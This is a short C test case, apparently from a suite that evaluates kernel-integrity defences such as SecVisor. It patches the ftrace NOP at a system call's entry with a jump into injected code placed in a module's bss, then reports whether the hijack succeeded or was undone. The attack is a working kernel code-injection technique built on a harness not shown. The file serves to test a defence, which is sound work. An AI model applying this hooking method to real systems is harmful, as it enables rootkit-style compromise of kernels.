// Row 12. The function entry of a system call in kernel text, where ftrace calls its trampolines, made a jump to code in a module's bss.
// Source: text_poke sites as data of the attacker's choosing; the patching interfaces trust their tables.
// Ends: natively succeeded; beneath SecVisor restored, tampered.
#include "common/attack.h"
#include <string.h>

ATTACK("ftrace-site-kernel")
{
	u64 at = symbol(VICTIM), code = operate(VULNERABLE_BSS, 0, 0, 0);
	u8 jump[5] = { 0xe9 };
	long before = victim(), after;
	s32 relative;

	// Behind ENDBR, if there is one.
	at = find_bytes(at, 8, "\x0f\x1f\x44\x00\x00", 5);
	relative = code - (at + 5);
	memcpy(jump + 1, &relative, 4);
	kwrite(code, CODE, CODE_LENGTH);
	make_executable(code);
	keep_bytes(at, 5);
	kwrite(at, jump, 5);
	after = victim();
	if (after == MARK)
		succeeded("the system call jumps to data and returns %#x", MARK);
	if (after == before)
		restored("the system call still returns %ld", before);
	failed("it returned %ld", after);
}
